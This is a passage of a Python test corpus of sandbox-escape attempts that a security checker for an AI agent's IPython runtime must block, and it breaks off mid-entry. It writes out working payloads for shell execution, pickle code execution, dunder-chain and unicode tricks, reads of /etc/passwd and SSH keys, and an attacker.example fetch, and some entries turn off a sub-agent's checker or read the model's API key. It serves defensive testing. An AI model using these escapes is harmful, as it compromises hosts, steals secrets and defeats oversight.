"""Escape attempts and benign analysis cells for the security policies.

Each `Escape` says what it would achieve if it ran. `strict` must block every one;
`tests/security/test_corpus.py` reports how many `standard` and `trusted` block.
Some entries carry a `proof`: the same technique with a harmless payload, which the tests
run in a real, unchecked IPythonRuntime to show the technique is real (it must succeed
there), and which `strict` must also block.

`BENIGN` cells are ordinary analysis that `strict` must never block.
"""

from __future__ import annotations

from dataclasses import dataclass

CATEGORIES = (
    "import aliases and dotted imports",
    "import primitives",
    "function aliases",
    "builtins access",
    "dunder chains",
    "string attribute access",
    "frame introspection",
    "IPython magics and get_ipython",
    "modules re-exported by allowed modules",
    "data-library I/O",
    "deserialization",
    "unicode identifier normalisation",
    "interactive debuggers",
    "native code",
    "setattr tricks",
    "objects injected by the host",
    "pandas query/eval strings",
    "class building and hooks",
)


@dataclass(frozen=True)
class Escape:
    category: str
    achieves: str
    code: str
    proof: str | None = None


E = Escape
CORPUS: list[Escape] = [
    # -- import aliases and dotted imports ------------------------------------------------------
    E("import aliases and dotted imports", "runs a shell command", 'import os\nos.system("id")'),
    E(
        "import aliases and dotted imports",
        "runs a shell command via an alias",
        'import os as o\no.system("id")',
    ),
    E(
        "import aliases and dotted imports",
        "a dotted import binds the top package",
        'import os.path\nos.system("id")',
    ),
    E(
        "import aliases and dotted imports",
        "imports a function under another name",
        'from os import system as run\nrun("id")',
    ),
    E(
        "import aliases and dotted imports",
        "star-import brings system() in unnamed",
        'from os import *\nsystem("id")',
    ),
    E(
        "import aliases and dotted imports",
        "runs a program",
        'import subprocess as sp\nsp.run(["id"])',
    ),
    E(
        "import aliases and dotted imports",
        "runs a program and reads its output",
        'from subprocess import check_output\ncheck_output(["id"])',
    ),
    E(
        "import aliases and dotted imports",
        "deletes a directory tree",
        'import shutil\nshutil.rmtree("/tmp/cave-victim")',
    ),
    E(
        "import aliases and dotted imports",
        "opens a network connection",
        'import socket\nsocket.create_connection(("example.com", 80))',
    ),
    E(
        "import aliases and dotted imports",
        "fetches a URL",
        'import urllib.request\nurllib.request.urlopen("http://example.com").read()',
    ),
    E(
        "import aliases and dotted imports",
        "reaches os through a pandas submodule import",
        'import pandas.io.common as pio\npio.os.system("id")',
    ),
    E(
        "import aliases and dotted imports",
        "imports the os module out of a pandas module",
        'from pandas.io.common import os\nos.system("id")',
    ),
    E(
        "import aliases and dotted imports",
        "hides a forbidden module in a multi-import",
        'import math, posix\nposix.system("id")',
    ),
    E(
        "import aliases and dotted imports",
        "reads any file",
        'import pathlib\npathlib.Path("/etc/passwd").read_text()',
    ),
    E(
        "import aliases and dotted imports",
        "spawns an interactive shell",
        'import pty\npty.spawn("/bin/sh")',
    ),
    E(
        "import aliases and dotted imports",
        "runs a shell command asynchronously",
        'import asyncio\nawait asyncio.create_subprocess_shell("id")',
    ),
    E(
        "import aliases and dotted imports",
        "imports numpy's ctypes helpers",
        "import numpy.ctypeslib as npc\nnpc.ctypes.CDLL(None)",
    ),
    E(
        "import aliases and dotted imports",
        "imports a private module of an allowed package",
        "from pandas._libs import lib\nlib",
    ),
    E(
        "import aliases and dotted imports",
        "relative import tricks the module path",
        "from . import os",
    ),
    # -- import primitives ---------------------------------------------------------------------
    E(
        "import primitives",
        "imports os by name and runs a command",
        '__import__("os").system("id")',
        proof='m = __import__("os")\nassert m.getpid() > 0',
    ),
    E(
        "import primitives",
        "imports via the builtins module in the namespace",
        '__builtins__.__import__("os").system("id")',
    ),
    E("import primitives", "imports via the builtins dict", '__builtins__["__import__"]("os")'),
    E(
        "import primitives",
        "imports by name via importlib",
        'import importlib\nimportlib.import_module("os").system("id")',
    ),
    E(
        "import primitives",
        "imports a name-built module",
        'from importlib import import_module as im\nim("o" + "s").system("id")',
    ),
    E(
        "import primitives",
        "imports via the builtins module",
        'import builtins\nbuiltins.__import__("os").system("id")',
    ),
    E(
        "import primitives",
        "execs via an aliased builtins module",
        'import builtins as b\nb.exec("import os")',
    ),
    E(
        "import primitives",
        "loads a module through the module loader",
        '__loader__.load_module("os").system("id")',
    ),
    E(
        "import primitives",
        "reaches an already imported module",
        'import sys\nsys.modules["os"].system("id")',
    ),
    E(
        "import primitives",
        "aliases __import__ then imports subprocess",
        'imp = __import__\nimp("subprocess").run(["id"])',
    ),
    E(
        "import primitives",
        "pandas imports any module by name",
        'import pandas as pd\npd.compat._optional.import_optional_dependency("os")',
    ),
    E(
        "import primitives",
        "IPython's builtin module alias",
        '__builtin__.open("/etc/passwd").read()',
    ),
    E(
        "import primitives",
        "string annotation evaluated by get_type_hints",
        "import typing\ndef f(x: \"__import__('os').system('id')\"): pass\ntyping.get_type_hints(f)",
    ),
    E(
        "import primitives",
        "runtime-built annotation evaluated by singledispatch",
        'import functools\n@functools.singledispatch\ndef g(x): pass\ns = "__imp" + "ort__(\'os\')"\ndef h(x: s): pass\ng.register(h)',
    ),
    E(
        "import primitives",
        "pandas plotting backend imports any module",
        'import pandas as pd\npd.set_option("plotting.backend", "antigravity")',
    ),
    # -- function aliases ------------------------------------------------------------------------
    E(
        "function aliases",
        "eval under another name",
        "e = eval\ne(\"__import__('os').system('id')\")",
        proof='e = eval\nassert e("6*7") == 42',
    ),
    E(
        "function aliases",
        "exec passed as a callback",
        "list(map(exec, [\"import os; os.system('id')\"]))",
    ),
    E("function aliases", "eval pulled out of a list", 'f = [eval][0]\nf("1")'),
    E(
        "function aliases",
        "exec bound in a partial",
        'import functools\nfunctools.partial(exec, "import os")()',
    ),
    E("function aliases", "compile then exec", 'c = compile("import os", "x", "exec")\nexec(c)'),
    E("function aliases", "open under another name", 'o = open\no("/etc/passwd").read()'),
    E("function aliases", "exec as a default argument", '(lambda f=exec: f("import os"))()'),
    E(
        "function aliases",
        "pandas' string evaluator under another name",
        'import pandas as pd\nev = pd.eval\nev("1 + 1")',
    ),
    E("function aliases", "exec stored in a dict", 'd = {"run": exec}\nd["run"]("import os")'),
    E("function aliases", "eval as a sort key", "sorted([\"__import__('os')\"], key=eval)"),
    E(
        "function aliases",
        "builtin open re-exported by io",
        'import io\nio.open("/etc/passwd").read()',
        proof='import io\nassert io.open.__name__ == "open" and "io" in io.open.__module__',
    ),
    E("function aliases", "input() hangs the host waiting for a terminal", "i = input\ni()"),
    E("function aliases", "globals() under another name", 'g = globals\ng()["__builtins__"]'),
    # -- builtins access ------------------------------------------------------------------------
    E("builtins access", "calls eval through the builtins module", '__builtins__.eval("1")'),
    E("builtins access", "reads the namespace dict", 'vars()["__builtins__"]'),
    E(
        "builtins access",
        "opens a file via globals()",
        'globals()["__builtins__"].open("/etc/passwd")',
    ),
    E("builtins access", "reads locals()", 'locals()["__builtins__"]'),
    E(
        "builtins access",
        "gets the builtins module from a builtin's __self__",
        'print.__self__.__import__("os")',
        proof='b = print.__self__\nassert b.__name__ == "builtins"',
    ),
    E(
        "builtins access",
        "vars() of the builtins module",
        'vars(__builtins__)["exec"]("import os")',
    ),
    E(
        "builtins access",
        "license() prints any file via its private file list",
        'license._Printer__filenames = ["/etc/passwd"]\nlicense()',
    ),
    E(
        "builtins access",
        "help() imports every installed module and blocks on a pager",
        'help("modules")',
    ),
    E(
        "builtins access",
        "reaches sys through exit()'s globals",
        'exit.__call__.__globals__["sys"]',
    ),
    E(
        "builtins access",
        "execs through dataclasses' builtins import",
        'import dataclasses\ndataclasses.builtins.exec("import os")',
        proof='import dataclasses\nassert dataclasses.builtins.eval("1+1") == 2',
    ),
    E(
        "builtins access",
        "evals through pandas' builtins import",
        'import pandas as pd\npd.core.common.builtins.eval("1")',
    ),
    E("builtins access", "memoryview over host objects", 'm = memoryview(b"x")\nm.obj'),
    # -- dunder chains --------------------------------------------------------------------------
    E(
        "dunder chains",
        "finds os._wrap_close among all classes and runs a command",
        'for c in ().__class__.__base__.__subclasses__():\n    if c.__name__ == "_wrap_close":\n        c.__init__.__globals__["system"]("id")',
        proof='cls = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]\nassert "system" in cls.__init__.__globals__',
    ),
    E(
        "dunder chains",
        "finds subprocess.Popen among subclasses",
        '[c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == "Popen"][0](["id"])',
    ),
    E("dunder chains", "walks the MRO from a string", '"".__class__.__mro__[1].__subclasses__()'),
    E("dunder chains", "subclasses via type's unbound method", "type.__subclasses__(object)"),
    E("dunder chains", "subclasses of object directly", "object.__subclasses__()"),
    E(
        "dunder chains",
        "reaches builtins from a lambda's globals",
        'f = lambda: 0\nf.__globals__["__builtins__"]',
    ),
    E(
        "dunder chains",
        "swaps a function's code object",
        'def f(): pass\nf.__code__ = compile("import os", "x", "exec")',
    ),
    E(
        "dunder chains",
        "reaches copyreg's globals through __reduce_ex__",
        '().__reduce_ex__(2)[0].__globals__["__builtins__"]',
    ),
    E(
        "dunder chains",
        "walks from a generator's class",
        "(x for x in ()).__class__.__mro__[-1].__subclasses__()",
    ),
    E("dunder chains", "reads a module's dict", 'import pandas as pd\npd.__dict__["io"].common.os'),
    E(
        "dunder chains",
        "object.__getattribute__ with any name",
        'import pandas as pd\nobject.__getattribute__(pd, "io")',
    ),
    # -- string attribute access -------------------------------------------------------------------
    E(
        "string attribute access",
        "getattr with a name built from pieces",
        'getattr(().__class__, "__ba" + "se__")',
        proof='b = getattr(().__class__, "__ba" + "se__")\nassert b is object',
    ),
    E(
        "string attribute access",
        "getattr with a joined name",
        'getattr(x, "".join(["__cl", "ass__"]))',
    ),
    E(
        "string attribute access",
        "getattr with a name from a variable",
        'name = "__globals__"\ngetattr(lambda: 0, name)',
    ),
    E(
        "string attribute access",
        "getattr chain reaching os through pandas",
        'import pandas as pd\ngetattr(getattr(getattr(pd, "io"), "common"), "os").system("id")',
    ),
    E(
        "string attribute access",
        "format-string field walks to the base class",
        '"{0.__class__.__base__}".format(())',
        proof='assert "object" in "{0.__class__.__base__}".format(())',
    ),
    E(
        "string attribute access",
        "format-string field leaks a function's globals",
        '"{0.__init__.__globals__[os]}".format(some_object)',
    ),
    E(
        "string attribute access",
        "format template built at runtime",
        't = "{0.__cl" + "ass__}"\nt.format(1)',
    ),
    E(
        "string attribute access",
        "format_map walks attributes",
        '"{x.__class__}".format_map({"x": 1})',
    ),
    E(
        "string attribute access",
        "string.Formatter resolves a dotted field",
        'import string\nstring.Formatter().get_field("0.__class__", [()], {})',
    ),
    E(
        "string attribute access",
        "attrgetter reads any attribute by name",
        'import operator\noperator.attrgetter("__globals__")(lambda: 0)',
    ),
    E(
        "string attribute access",
        "pandas dispatches a method name string",
        'import pandas as pd\npd.Series([1]).agg("__reduce_ex__", 2)',
    ),
    E(
        "string attribute access",
        "reduce getattr over a name list",
        'import functools, pandas as pd\nfunctools.reduce(getattr, ["io", "common", "os"], pd)',
    ),
    E(
        "string attribute access",
        "Styler format template walks attributes",
        'df.style.format("{0.__class__.__init__.__globals__}")',
    ),
    E("string attribute access", "f-string walks to globals", 'f = lambda: 0\nf"{f.__globals__}"'),
    E("string attribute access", "hasattr probes private names", 'hasattr(x, "_" + "_globals__")'),
    E(
        "string attribute access",
        "format via str.format on a runtime template",
        "str.format(template, obj)",
    ),
    E(
        "string attribute access",
        "a case pattern reads attributes by name",
        'match helper:\n    case object(__globals__=g):\n        g["__builtins__"]',
    ),
    # -- frame introspection ---------------------------------------------------------------------
    E(
        "frame introspection",
        "a generator's frame leads to the caller's globals",
        "g = (i for i in [1])\ng.gi_frame.f_back",
        proof="g = (i for i in [1])\nassert g.gi_frame.f_globals is not None",
    ),
    E(
        "frame introspection",
        "a generator frame's globals",
        'def gen():\n    yield 1\ngen().gi_frame.f_globals["__builtins__"]',
    ),
    E(
        "frame introspection",
        "a traceback's frames reach the host's globals",
        "try:\n    1 / 0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_back.f_globals",
    ),
    E(
        "frame introspection",
        "sys._getframe reads the caller's frame and its globals",
        "import sys\nsys._getframe(1).f_globals",
    ),
    E(
        "frame introspection",
        "inspect.currentframe walks up to the host's frames",
        "import inspect\ninspect.currentframe().f_back.f_globals",
    ),
    E(
        "frame introspection",
        "traceback.walk_stack lists every live frame",
        "import traceback\nlist(traceback.walk_stack(None))",
    ),
    E(
        "frame introspection",
        "a coroutine's frame",
        "async def c():\n    pass\nco = c()\nco.cr_frame.f_globals",
    ),
    E(
        "frame introspection",
        "a code object's constants",
        'def f():\n    return "secret"\nf.__code__.co_consts',
    ),
    E(
        "frame introspection",
        "walks tracebacks one frame at a time",
        'try:\n    int("x")\nexcept ValueError as e:\n    tb = e.__traceback__\n    tb.tb_next.tb_frame.f_locals',
    ),
    E("frame introspection", "sys.exc_info's traceback", "import sys\nsys.exc_info()[2].tb_frame"),
    E(
        "frame introspection",
        "a generator's code object",
        "g = (i for i in [1])\ng.gi_code.co_consts",
    ),
    E(
        "frame introspection",
        "gc reaches every object in the process",
        "import gc\ngc.get_objects()",
    ),
    # -- IPython ----------------------------------------------------------------------------------
    E("IPython magics and get_ipython", "shell escape", "!id"),
    E("IPython magics and get_ipython", "shell escape capturing output", "!!cat /etc/passwd"),
    E("IPython magics and get_ipython", "shell escape in an assignment", "files = !ls ~"),
    E("IPython magics and get_ipython", "line magic running a command", "%system id"),
    E("IPython magics and get_ipython", "bash cell magic", "%%bash\nid\n"),
    E("IPython magics and get_ipython", "script cell magic", "%%script sh\nid\n"),
    E("IPython magics and get_ipython", "automagic alias: lists a directory", "ls"),
    E(
        "IPython magics and get_ipython",
        "automagic alias: reads a file (parses as division)",
        "cat /etc/passwd",
    ),
    E("IPython magics and get_ipython", "automagic: changes the working directory", "cd /etc"),
    E(
        "IPython magics and get_ipython",
        "automagic alias: deletes files",
        "rm -rf /tmp/cave-victim",
    ),
    E(
        "IPython magics and get_ipython",
        "the shell object runs commands",
        'get_ipython().system("id")',
    ),
    E(
        "IPython magics and get_ipython",
        "the shell object runs magics",
        'get_ipython().run_line_magic("sx", "id")',
    ),
    E(
        "IPython magics and get_ipython",
        "the shell's namespace and history",
        "ip = get_ipython()\nip.user_ns",
    ),
    E("IPython magics and get_ipython", "%run executes a file", "%run /tmp/evil.py"),
    E("IPython magics and get_ipython", "%load reads any file into the cell", "%load /etc/passwd"),
    E("IPython magics and get_ipython", "help request reads source files", "os??"),
    E("IPython magics and get_ipython", "autocall escape turns into a call", '/eval "1+1"'),
    E(
        "IPython magics and get_ipython",
        "quote escape turns into a call with a string",
        ";exec import os",
    ),
    E("IPython magics and get_ipython", "%env reveals API keys", "%env"),
    E("IPython magics and get_ipython", "automagic env reveals API keys", "env"),
    E(
        "IPython magics and get_ipython",
        "%%writefile writes any file",
        "%%writefile /tmp/evil.py\nimport os\n",
    ),
    E("IPython magics and get_ipython", "%pip installs packages", "%pip install evil-package"),
    E("IPython magics and get_ipython", "magic in an assignment", "x = %sx id"),
    E(
        "IPython magics and get_ipython",
        "indented shell escape inside a block",
        "if True:\n    !id",
    ),
    E("IPython magics and get_ipython", "automagic after blank lines", "\n\nls -la ~\n"),
    # -- modules re-exported by allowed modules -----------------------------------------------------
    E(
        "modules re-exported by allowed modules",
        "json re-exports codecs, which opens files",
        'import json\njson.codecs.open("/etc/passwd").read()',
        proof='import json\nassert json.codecs.open.__module__ == "codecs"',
    ),
    E(
        "modules re-exported by allowed modules",
        "codecs re-exports builtins",
        'import json\njson.codecs.builtins.exec("import os")',
    ),
    E(
        "modules re-exported by allowed modules",
        "pandas re-exports os",
        'import pandas as pd\npd.io.common.os.system("id")',
        proof="import pandas as pd\nassert pd.io.common.os.getpid() > 0",
    ),
    E(
        "modules re-exported by allowed modules",
        "numpy's ctypeslib re-exports ctypes",
        "import numpy as np\nnp.ctypeslib.ctypes.CDLL(None)",
    ),
    E(
        "modules re-exported by allowed modules",
        "dataclasses re-exports sys",
        'import dataclasses\ndataclasses.sys.modules["os"].system("id")',
    ),
    E(
        "modules re-exported by allowed modules",
        "typing re-exports sys",
        'import typing\ntyping.sys.modules["os"]',
    ),
    E(
        "modules re-exported by allowed modules",
        "random's private os",
        'import random\nrandom._os.system("id")',
    ),
    E(
        "modules re-exported by allowed modules",
        "a pandas module re-exports pathlib.Path",
        'import pandas as pd\npd.io.common.Path("/etc/passwd").read_text()',
    ),
    E(
        "modules re-exported by allowed modules",
        "a module alias hides the chain",
        'import pandas as pd\nm = pd.io.common\nm.os.system("id")',
    ),
    E(
        "modules re-exported by allowed modules",
        "pandas re-exports mmap",
        "from pandas.io import common as c\nc.mmap.mmap(-1, 10)",
    ),
    E(
        "modules re-exported by allowed modules",
        "matplotlib re-exports subprocess",
        'import matplotlib\nmatplotlib.subprocess.run(["id"])',
    ),
    E(
        "modules re-exported by allowed modules",
        "numpy's test helpers build C extensions",
        'import numpy as np\nnp.testing.extbuild.build_and_import_extension("m", [])',
    ),
    E(
        "modules re-exported by allowed modules",
        "pyarrow's cffi module loads libraries",
        "import pyarrow as pa\npa.cffi.ffi.dlopen(None)",
    ),
    E(
        "modules re-exported by allowed modules",
        "warnings re-exports sys",
        'import warnings\nwarnings.sys.modules["os"]',
    ),
    E(
        "modules re-exported by allowed modules",
        "re re-exports copyreg (pickle registry)",
        "import re\nre.copyreg.dispatch_table",
    ),
    E(
        "modules re-exported by allowed modules",
        "a module reached from a conventional alias in an earlier cell",
        'pd.io.common.os.system("id")',
    ),
    E(
        "modules re-exported by allowed modules",
        "typing re-exports the types module (CodeType)",
        "import typing\ntyping.types.CodeType",
    ),
    E(
        "modules re-exported by allowed modules",
        "from-import of a module re-exported by json",
        'from json import codecs\ncodecs.open("/etc/passwd")',
    ),
    # -- data-library I/O ---------------------------------------------------------------------------
    E(
        "data-library I/O",
        "reads any file as a table",
        'import pandas as pd\npd.read_csv("/etc/passwd", sep=":", header=None)',
    ),
    E("data-library I/O", "writes a file", 'df.to_csv("evil.sh")'),
    E(
        "data-library I/O",
        "fetches a URL (network)",
        'import pandas as pd\npd.read_json("http://attacker.example/x.json")',
    ),
    E(
        "data-library I/O",
        "fetches and parses a web page",
        'import pandas as pd\npd.read_html("https://example.com")',
    ),
    E(
        "data-library I/O",
        "reads a file with numpy",
        'import numpy as np\nnp.loadtxt("/etc/hostname", dtype=str)',
    ),
    E(
        "data-library I/O",
        "reads raw bytes of a file",
        'import numpy as np\nnp.fromfile("/etc/passwd", dtype=np.uint8)',
    ),
    E(
        "data-library I/O",
        "writes an array to a file",
        'import numpy as np\nnp.save("out.npy", np.zeros(3))',
    ),
    E(
        "data-library I/O",
        "memory-maps a file for writing",
        'import numpy as np\nnp.memmap("/tmp/x", mode="w+", shape=(10,))',
    ),
    E("data-library I/O", "matplotlib writes an image file", 'fig.savefig("plot.png")'),
    E(
        "data-library I/O",
        "pyarrow writes a parquet file",
        'import pyarrow.parquet as pq\npq.write_table(t, "t.parquet")',
    ),
    E(
        "data-library I/O",
        "pandas talks to a database",
        'import pandas as pd\npd.read_sql("select 1", "sqlite:////tmp/x.db")',
    ),
    E(
        "data-library I/O",
        "a path built at runtime",
        'import pandas as pd\npath = "/et" + "c/passwd"\npd.read_csv(path)',
    ),
    E(
        "data-library I/O",
        "numpy's DataSource opens URLs",
        'import numpy as np\nnp.DataSource().open("http://example.com")',
    ),
    E("data-library I/O", "an HDF store on disk", 'import pandas as pd\npd.HDFStore("x.h5")'),
    E(
        "data-library I/O",
        "pyarrow opens a file",
        'import pyarrow as pa\npa.OSFile("/etc/passwd").read()',
    ),
    E("data-library I/O", "the clipboard runs xclip", "import pandas as pd\npd.read_clipboard()"),
    E("data-library I/O", "writes an Excel file", 'df.to_excel("out.xlsx")'),
    E(
        "data-library I/O",
        "points matplotlib's ffmpeg at a shell",
        'import matplotlib\nmatplotlib.rcParams["animation.ffmpeg_path"] = "/bin/sh"',
    ),
    E(
        "data-library I/O",
        "json.load on an opened file",
        'import json\njson.load(open("/etc/passwd"))',
    ),
    E(
        "data-library I/O",
        "pandas' internal file opener",
        'import pandas as pd\npd.io.common.get_handle("/etc/passwd", "r")',
    ),
    E(
        "data-library I/O",
        "an f-string path to a private key",
        'import numpy as np\nnp.genfromtxt(f"/home/{user}/.ssh/id_rsa")',
    ),
    E("data-library I/O", "opens a file via any .open()", 'img.open("secret.png")'),
    E(
        "data-library I/O",
        "matplotlib loads a module-backed backend by name",
        'import matplotlib\nmatplotlib.use("module://evil_backend")',
    ),
    # -- deserialization ---------------------------------------------------------------------------
    E(
        "deserialization",
        "unpickling runs os.system",
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")",
    ),
    E("deserialization", "marshal loads code objects", "import marshal\nexec(marshal.loads(data))"),
    E(
        "deserialization",
        "numpy unpickles object arrays",
        "import numpy as np\nnp.load(buf, allow_pickle=True)",
    ),
    E(
        "deserialization",
        "allow_pickle passed positionally",
        "import numpy as np\nnp.load(buf, None, True)",
    ),
    E(
        "deserialization",
        "allow_pickle hidden in **kwargs",
        'import numpy as np\nopts = {"allow_pickle": True}\nnp.load(buf, **opts)',
    ),
    E("deserialization", "pandas unpickles a file", 'import pandas as pd\npd.read_pickle("x.pkl")'),
    E(
        "deserialization",
        "pandas' pickle compatibility loader",
        "import pandas as pd\npd.compat.pickle_compat.loads(payload)",
    ),
    E("deserialization", "joblib unpickles", 'import joblib\njoblib.load("model.pkl")'),
    E(
        "deserialization",
        "a __reduce__ hook runs when the session is saved and restored",
        'class E:\n    def __reduce__(self):\n        return (print, ("pwned",))\ne = E()',
    ),
    E(
        "deserialization",
        "copyreg registers a reducer",
        "import copyreg\ncopyreg.pickle(int, print)",
    ),
    E(
        "deserialization",
        "numpy's format reader unpickles",
        "import numpy as np\nnp.lib.format.read_array(buf, allow_pickle=True)",
    ),
    E(
        "deserialization",
        "a partial bakes allow_pickle in",
        "import functools\nimport numpy as np\nload = functools.partial(np.load, allow_pickle=True)",
    ),
    E(
        "deserialization",
        "a __reduce__ hook assigned as a lambda",
        'class P:\n    __reduce__ = lambda self: (exec, ("import os",))',
    ),
    E(
        "deserialization",
        "allow_pickle set to a truthy constant",
        "import numpy as np\nnp.load(buf, allow_pickle=1)",
    ),
    E(
        "deserialization",
        "np.load's defaults changed to allow pickles",
        'import numpy as np\nnp.load.__defaults__ = (None, True, True, "ASCII")',
    ),
    E("deserialization", "shelve unpickles from a file", 'import shelve\nshelve.open("db")'),
    # -- unicode ----------------------------------------------------------------------------------
    E(
        "unicode identifier normalisation",
        "fullwidth eval is eval",
        "ｅval(\"__import__('os').system('id')\")",
        proof='assert ｅval("1+1") == 2',
    ),
    E("unicode identifier normalisation", "fullwidth exec is exec", 'ｅｘｅｃ("import os")'),
    E(
        "unicode identifier normalisation",
        "fullwidth __import__",
        '__ｉｍｐｏｒｔ__("os").system("id")',
    ),
    E(
        "unicode identifier normalisation",
        "fullwidth dunder attributes",
        "().__ｃｌａｓｓ__.__ｂａｓｅ__.__subclasses__()",
    ),
    E(
        "unicode identifier normalisation",
        "getattr with a fullwidth name",
        'getattr(x, "__ｃｌａｓｓ__")',
    ),
    E("unicode identifier normalisation", "script small e", 'ℯval("1")'),
    E(
        "unicode identifier normalisation",
        "fullwidth module name",
        'import ｏｓ\nｏｓ.system("id")',
    ),
    E("unicode identifier normalisation", "mathematical bold open", '𝐨𝐩𝐞𝐧("/etc/passwd").read()'),
    E("unicode identifier normalisation", "fullwidth from-import", "from ｏｓ import system"),
    E(
        "unicode identifier normalisation",
        "fullwidth frame attribute",
        "g = (i for i in [1])\ng.ｇｉ_frame.f_globals",
    ),
    # -- debuggers -----------------------------------------------------------------------------------
    E("interactive debuggers", "breakpoint() opens pdb on the host terminal", "breakpoint()"),
    E(
        "interactive debuggers",
        "pdb.set_trace opens a debugger on the host terminal",
        "import pdb\npdb.set_trace()",
    ),
    E("interactive debuggers", "an interactive Python console", "import code\ncode.interact()"),
    E("interactive debuggers", "the %debug magic", "%debug"),
    E("interactive debuggers", "turns on automatic pdb", "%pdb on"),
    E("interactive debuggers", "breakpoint under another name", "b = breakpoint\nb()"),
    E("interactive debuggers", "an embedded IPython shell", "import IPython\nIPython.embed()"),
    E("interactive debuggers", "interactive help", "help()"),
    E("interactive debuggers", "the breakpoint hook", "import sys\nsys.breakpointhook()"),
    # -- native code -----------------------------------------------------------------------------------
    E("native code", "calls libc's system", 'import ctypes\nctypes.CDLL(None).system(b"id")'),
    E(
        "native code",
        "star-imported ctypes loader",
        'from ctypes import *\ncdll.LoadLibrary("libc.so.6").system(b"id")',
    ),
    E(
        "native code",
        "numpy loads a shared library",
        'import numpy as np\nnp.ctypeslib.load_library("libc", "/lib")',
    ),
    E(
        "native code",
        "as_strided reads arbitrary memory",
        "import numpy as np\nnp.lib.stride_tricks.as_strided(np.zeros(1), shape=(10**9,), strides=(1,))",
    ),
    E(
        "native code",
        "an __array_interface__ pointing at address 0",
        'import numpy as np\nclass A:\n    __array_interface__ = {"data": (0, False), "shape": (10,), "typestr": "|u1", "version": 3}\nnp.asarray(A())',
    ),
    E(
        "native code",
        "pyarrow wraps a raw address",
        "import pyarrow as pa\npa.foreign_buffer(0x1000, 100)",
    ),
    E(
        "native code",
        "an array's ctypes interface",
        "import numpy as np\nnp.zeros(1).ctypes.data_as(None)",
    ),
    E("native code", "cffi opens libc", "import cffi\ncffi.FFI().dlopen(None)"),
    E("native code", "f2py compiles and loads Fortran", "import numpy.f2py"),
    E(
        "native code",
        "an Arrow array longer than its buffer",
        'import pyarrow as pa\npa.Array.from_buffers(pa.int64(), 10**9, [None, pa.py_buffer(b"12345678")])',
    ),
    E(
        "native code",
        "type() builds a class with __array_interface__",
        'import numpy as np\nA = type("A", (), {"__array_interface__": {"data": (0, False), "shape": (9,), "typestr": "|u1", "version": 3}})\nnp.asarray(A())',
    ),
    E(
        "native code",
        "Enum's functional API sets a dunder from runtime names",
        'import enum\nk = "__array_" + "interface__"\nE = enum.Enum("E", {k: {}, "A": 1})',
    ),
    E(
        "native code",
        "scipy calls a raw C function pointer",
        "import scipy\nscipy.LowLevelCallable(0)",
    ),
    E("native code", "numpy's extension builder", "from numpy.testing import extbuild"),
    E(
        "native code",
        "a class property supplies __array_interface__",
        'class A:\n    @property\n    def __array_interface__(self):\n        return {"data": (0, False), "shape": (9,), "typestr": "|u1", "version": 3}',
    ),
    # -- setattr tricks -----------------------------------------------------------------------------
    E("setattr tricks", "replaces a function's code", 'setattr(f, "__code__", g.__code__)'),
    E("setattr tricks", "changes an object's class", 'setattr(obj, "__class__", Evil)'),
    E(
        "setattr tricks",
        "monkeypatches pandas for the host",
        "import pandas as pd\npd.read_csv = lambda *a, **k: None",
        proof='import json\norig = json.dumps\njson.dumps = lambda *a, **k: "patched"\nok = json.dumps(1) == "patched"\njson.dumps = orig\nassert ok',
    ),
    E(
        "setattr tricks",
        "setattr on a module",
        'import pandas as pd\nsetattr(pd, "read_csv", print)',
    ),
    E(
        "setattr tricks",
        "hijacks the host's JSON encoding",
        'import json\njson.dumps = lambda *a, **k: "x"',
    ),
    E(
        "setattr tricks",
        "setattr with a runtime name",
        'name = "__glo" + "bals__"\nsetattr(x, name, 1)',
    ),
    E(
        "setattr tricks",
        "deletes a module attribute",
        'import pandas as pd\ndelattr(pd, "read_csv")',
    ),
    E("setattr tricks", "object.__setattr__ bypasses guards", 'object.__setattr__(x, "y", 1)'),
    E(
        "setattr tricks",
        "pandas accessor registration sets a dunder on DataFrame",
        'import pandas as pd\npd.api.extensions.register_dataframe_accessor("__array_interface__")(dict)',
    ),
    E(
        "setattr tricks",
        "functools.wraps copies chosen attributes",
        'import functools\nfunctools.wraps(obj, assigned=("__array_interface__",))(target)',
    ),
    E("setattr tricks", "writes an object's __dict__", 'obj.__dict__["x"] = 1'),
    E("setattr tricks", "vars() writes an object's attributes", "vars(obj).update(x=1)"),
    E(
        "setattr tricks",
        "setattr passed around as a value",
        'import functools\nfunctools.partial(setattr, obj)("__class__", Evil)',
    ),
    E("setattr tricks", "deletes an attribute of a module", "import json\ndel json.dumps"),
    # -- host-injected objects ----------------------------------------------------------------------
    E(
        "objects injected by the host",
        "an injected function's globals hold the host's modules",
        'helper.__globals__["os"].system("id")',
        proof='assert "__builtins__" in helper.__globals__',
    ),
    E(
        "objects injected by the host",
        "an injected function's builtins",
        'helper.__globals__["__builtins__"]["eval"]("1")',
    ),
    E(
        "objects injected by the host",
        "closure cells of an injected function",
        "helper.__closure__[0].cell_contents",
    ),
    E(
        "objects injected by the host",
        "the host's file names from a code object",
        "helper.__code__.co_filename",
    ),
    E(
        "objects injected by the host",
        "the host module of an injected function",
        "import sys\nsys.modules[helper.__module__]",
    ),
    E(
        "objects injected by the host",
        "a bound method's instance dict",
        "obj.method.__self__.__dict__",
    ),
    E(
        "objects injected by the host",
        "a bound method's function globals",
        "obj.method.__func__.__globals__",
    ),
    E(
        "objects injected by the host",
        "the globals of an injected class's __init__",
        'type(obj).__init__.__globals__["os"]',
    ),
    E(
        "objects injected by the host",
        "through __class__ and __init__ to globals",
        "obj.__class__.__init__.__globals__",
    ),
    E(
        "objects injected by the host",
        "switches off a sub-agent's checker",
        "sub_agent.runtime.security_checker = None",
    ),
    E(
        "objects injected by the host",
        "a sub-agent's shell runs commands",
        'sub_agent.runtime.shell.system("id")',
    ),
    E(
        "objects injected by the host",
        "a sub-agent's runtime runs unchecked strings",
        'await sub_agent.runtime.execute("import os")',
    ),
    E(
        "objects injected by the host",
        "reads the model's API key",
        "print(sub_agent.model.api_key)",
    ),
    E("objects injected by the host", "python 2 style globals name", "helper.func_globals"),
    E(
        "objects injected by the host",
        "an injected function's wrapped original",
        "helper.__wrapped__.__globals__",
    ),
    # -- pandas query/eval ---------------------------------------------------------------------------
    E(
        "pandas query/eval strings",
        "@-reference walks to os",
        "df.query(\"@pd.io.common.os.system('id')\")",
    ),
    E(
        "pandas query/eval strings",
        "dunder walk inside a query",
